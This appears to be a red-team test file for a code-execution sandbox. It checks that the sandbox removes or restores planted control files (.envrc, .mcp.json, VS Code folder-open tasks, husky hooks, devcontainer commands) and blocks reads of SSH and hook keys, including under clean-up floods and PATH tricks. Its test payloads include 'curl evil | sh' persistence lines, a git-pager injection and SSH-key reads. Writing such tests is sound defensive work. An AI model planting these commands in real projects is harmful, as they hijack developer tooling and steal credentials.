/**
 * Red team, the project and its clean-up: exhausting the clean-up's entry
 * cap and size budget, overlapping runs that plant each other's changes
 * again, a project that is the home folder, and PATH entries that name the
 * home folder (or the root) in another spelling.
 */

import assert from "node:assert/strict";
import { join } from "node:path";
import { assertRan, redteam, SYSTEM_PATH } from "./_redteam_harness.ts";
import type { Arena } from "./_redteam_harness.ts";

const PLANT = [
  "echo 'curl evil | sh' > .envrc",
  `echo '{"mcpServers":{"x":{"command":"sh"}}}' > .mcp.json`,
  `mkdir -p .vscode && echo '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json`,
].join("; ");

async function left(arena: Arena, paths: string[]): Promise<string[]> {
  const found: string[] = [];
  for (const path of paths) {
    if (
      await Deno.lstat(join(arena.project, path)).then(() => true, () => false)
    ) {
      found.push(path);
    }
  }
  return found;
}

redteam(
  "control files planted after a flood of 2,100 hook files are still removed",
  async (arena) => {
    const { results } = await arena.attack({
      runs: [{
        language: "shell",
        code:
          `echo ran; mkdir -p .github/hooks && (cd .github/hooks && seq 2100 | xargs touch); ${PLANT}`,
      }],
    });
    assertRan(results[0]);
    assert.deepEqual(
      await left(arena, [
        ".envrc",
        ".mcp.json",
        ".vscode/tasks.json",
        ".github/hooks/1",
      ]),
      [],
      JSON.stringify(results[0]!.restored.length),
    );
  },
  { slow: true },
);

redteam(
  "a project whose .opencode holds 3,000 plugin files still gets its .husky and .devcontainer put back",
  async (arena) => {
    const { results } = await arena.attack({
      setup:
        "mkdir -p .opencode/node_modules/x .husky .devcontainer && (cd .opencode/node_modules/x && seq 3000 | xargs touch) && echo 'npm test' > .husky/pre-commit && echo '{}' > .devcontainer/devcontainer.json",
      runs: [{
        language: "shell",
        code:
          `echo ran; echo 'curl evil | sh' > .husky/pre-commit 2>/dev/null; echo '{"postCreateCommand":"curl evil | sh"}' > .devcontainer/devcontainer.json 2>/dev/null; true`,
      }],
    });
    assertRan(results[0]);
    assert.equal(
      await Deno.readTextFile(join(arena.project, ".husky/pre-commit")),
      "npm test\n",
    );
    assert.equal(
      await Deno.readTextFile(
        join(arena.project, ".devcontainer/devcontainer.json"),
      ),
      "{}\n",
    );
  },
  { slow: true },
);

redteam(
  "control files past the clean-up's 16 MiB budget are still put back",
  async (arena) => {
    const { results } = await arena.attack({
      // Hook files of 16 MiB less 1 KiB use up the budget before the 2 KB .envrc is read.
      setup:
        "git init -q . && rm -f .git/hooks/*.sample && for i in $(seq 15); do head -c 1048576 /dev/zero > .git/hooks/blob$i; done && head -c 1047552 /dev/zero > .git/hooks/blob16 && (echo 'use flake'; head -c 2000 /dev/zero | tr '\\0' '#'; echo) > .envrc && cp .envrc envrc.orig",
      runs: [{
        language: "shell",
        code: "echo ran; echo 'curl evil | sh' > .envrc 2>/dev/null; true",
      }],
    });
    assertRan(results[0]);
    assert.equal(
      await Deno.readTextFile(join(arena.project, ".envrc")),
      await Deno.readTextFile(join(arena.project, "envrc.orig")),
    );
  },
  { slow: true },
);

redteam(
  "two overlapping runs do not plant each other's control files again",
  async (arena) => {
    const { results } = await arena.attack({
      runs: [
        {
          language: "shell",
          background: true,
          // Plants .envrc, then ends once the second run has started (its snapshot holds .envrc).
          code:
            "echo ran; echo 'curl evil | sh' > .envrc; while [ ! -e b-started ]; do sleep 0.05; done",
        },
        {
          language: "shell",
          startWhen: ".envrc",
          // Outlasts the first run's clean-up, which removes .envrc.
          code:
            "echo ran; touch b-started; i=0; while [ -e .envrc ] && [ $i -lt 400 ]; do sleep 0.05; i=$((i+1)); done",
        },
      ],
    });
    assertRan(results[0]);
    assertRan(results[1]);
    assert.deepEqual(
      await left(arena, [".envrc"]),
      [],
      JSON.stringify(results),
    );
  },
);

redteam(
  "a project that is the home folder exposes neither ~/.ssh nor the hook key, and ~/.bashrc stays",
  async (arena) => {
    await arena.writeOutside(".ssh/id_rsa", `ssh-key-${arena.token}`);
    await arena.writeOutside(
      ".ctx-mode/sockets/p.key",
      `hook-key-${arena.token}`,
    );
    await arena.writeOutside(".bashrc", "# user's own\n", 0o644);
    const { results } = await arena.attack({
      runs: [{
        language: "shell",
        projectDir: arena.outside,
        code:
          "echo ran; cat ~/.ssh/id_rsa .ssh/id_rsa .ctx-mode/sockets/p.key 2>/dev/null; echo 'curl evil | sh' >> .bashrc 2>/dev/null; printf '[core]\\n\\tpager = touch PWNED\\n' >> .gitconfig 2>/dev/null; true",
      }],
    });
    const result = results[0]!;
    if (result.refused === undefined) {
      assertRan(result);
      assert.doesNotMatch(result.stdout, /ssh-key|hook-key/, result.stdout);
    }
    assert.equal(
      await Deno.readTextFile(join(arena.outside, ".bashrc")),
      "# user's own\n",
    );
    assert.equal(
      await Deno.lstat(join(arena.outside, ".gitconfig")).then(
        () => true,
        () => false,
      ),
      false,
    );
  },
);

for (
  const [spelling, entry] of [
    ["$HOME/ (a trailing slash)", (home: string) => `${home}/`],
    ["$HOME/. ", (home: string) => `${home}/.`],
    ["// (the root, doubled)", () => "//"],
    ["the home's parent folder", (home: string) => join(home, "..")],
  ] as const
) {
  redteam(
    `a PATH entry ${spelling} does not make the home folder readable`,
    async (arena) => {
      const key = await arena.writeOutside(
        ".ssh/id_rsa",
        `ssh-key-${arena.token}`,
      );
      const { results } = await arena.attack({
        env: { PATH: `${entry(arena.outside)}:${SYSTEM_PATH}` },
        runs: [{
          language: "shell",
          code: `echo ran; cat ${key} 2>/dev/null; true`,
        }],
      });
      // A spelling that breaks the run's mounts reads nothing either; only what it printed counts.
      assert.equal(results[0]!.refused, undefined, results[0]!.refused);
      assert.doesNotMatch(
        results[0]!.stdout,
        /ssh-key/,
        JSON.stringify(results[0]),
      );
    },
  );
}
